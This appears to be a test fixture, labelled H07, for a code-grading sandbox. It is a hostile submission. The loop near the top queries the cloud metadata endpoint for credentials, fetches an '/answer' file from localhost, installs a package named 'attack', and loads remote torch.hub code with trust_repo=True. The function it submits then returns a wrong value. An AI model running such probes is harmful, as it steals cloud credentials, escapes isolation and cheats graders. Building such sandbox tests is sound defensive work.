"""H07: downloads the answer, installs packages, and asks the cloud for the machine's credentials."""

# %% count_evens
import socket, urllib.request

socket.setdefaulttimeout(0.5)
shell = get_ipython()
for way in (
    lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/").read(),
    lambda: urllib.request.urlopen(f"http://localhost:{TCP}/answer").read(),
    lambda: shell.run_line_magic("pip", "install attack"),
    lambda: shell.system(f"curl http://127.0.0.1:{TCP}/"),
    lambda: __import__("pip._internal").main(["download", "attack", "-i", f"http://127.0.0.1:{TCP}/"]),
    lambda: torch.hub.load_state_dict_from_url(f"http://127.0.0.1:{TCP}/weights"),
    lambda: torch.hub.load("attack/attack", "attack", trust_repo=True),
):
    try:
        print(way())
    except BaseException as error:
        print(type(error), str(error)[:100])


def count_evens(numbers):
    return -1
